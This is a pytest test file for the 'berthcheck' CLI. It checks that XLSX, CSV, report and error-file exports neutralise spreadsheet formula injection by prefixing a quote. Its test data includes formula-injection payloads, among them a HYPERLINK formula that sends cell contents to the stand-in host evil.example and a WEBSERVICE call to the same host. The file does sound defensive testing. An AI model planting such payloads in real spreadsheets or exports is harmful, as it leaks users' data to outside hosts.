"""Issue 15, item 1: text that starts like a formula never becomes one in a file we write."""

from __future__ import annotations

import csv
import io
import zipfile

import polars as pl
import pytest
from typer.testing import CliRunner

from berthcheck.cli import app

from ..conftest import good_visit, write_csv

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_FLEET = "@SUM(1+1)"
EVIL_OPERATOR = "+WEBSERVICE(\"http://evil.example\")"


def _cli(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("formula")
    path = tmp / "bc.duckdb"
    visits = write_csv(tmp / "visits.csv", [
        good_visit(vessel_name=EVIL_NAME) | {"fleet": EVIL_FLEET, "operator": EVIL_OPERATOR},
        good_visit(visit_id="V2", vessel_name="-2+3", arrival="2026-10-05 06:00",
                   ready_to_work="2026-10-05 08:00", pilot_on_board="2026-10-06 05:00",
                   departure="2026-10-06 06:00") | {"fleet": "", "operator": ""},
    ])
    result = _cli("load", "visits", visits, "--db", path)
    assert result.exit_code == 0, result.output
    return path


def test_xlsx_writes_text_as_strings_never_formulas(db, tmp_path):
    out = tmp_path / "res.xlsx"
    result = _cli("check", "--db", db, "--period", "2026-10", "--out", out)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2  # Results and Findings in one workbook
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
        shared = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml  # no formula cell anywhere
    assert "'=HYPERLINK" in shared.replace("&quot;", '"')
    assert "'@SUM(1+1)" in shared and "'+WEBSERVICE" in shared.replace("&quot;", '"')
    results = pl.read_excel(out, sheet_name="Results")
    row = results.filter(pl.col("visit_id") == "V1").row(0, named=True)
    assert row["vessel_name"] == "'" + EVIL_NAME
    # numbers stay numbers (a negative number is not text to neutralise)
    assert results["uncontrolled_hours"].dtype.is_numeric()


def test_csv_results_and_findings_are_neutralised(db, tmp_path):
    out = tmp_path / "res.csv"
    result = _cli("check", "--db", db, "--period", "2026-10", "--out", out)
    assert result.exit_code == 0, result.output
    rows = {r["visit_id"]: r for r in csv.DictReader(open(out, encoding="utf-8"))}
    assert rows["V1"]["vessel_name"] == "'" + EVIL_NAME
    assert rows["V1"]["fleet"] == "'" + EVIL_FLEET
    assert rows["V1"]["operator"] == "'" + EVIL_OPERATOR
    assert rows["V2"]["vessel_name"] == "'-2+3"
    for row in csv.DictReader(open(tmp_path / "findings.csv", encoding="utf-8")):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row


def test_the_csv_attached_to_the_report_is_neutralised(db):
    from berthcheck import store
    from berthcheck.engine import check
    from berthcheck.engine.export import csv_bytes

    con = store.connect(db)
    try:
        outcome = check(con, period="2026-10", store_run=False, record=False)  # results only
    finally:
        con.close()
    # the report attaches csv_bytes(results) (report/__init__.py): the same safe text
    text = csv_bytes(outcome.results).decode("utf-8")
    rows = {r["visit_id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["V1"]["vessel_name"] == "'" + EVIL_NAME


def test_errors_file_is_neutralised(tmp_path):
    bad = write_csv(tmp_path / "visits.csv", [good_visit(vessel_type="=1+1", imo="@1")])
    errors = tmp_path / "errors.csv"
    result = _cli("load", "visits", bad, "--db", tmp_path / "x.duckdb", "--errors", errors)
    assert result.exit_code == 1
    cells = [c for row in csv.reader(open(errors, encoding="utf-8-sig")) for c in row]
    assert "'=1+1" in cells and "'@1" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
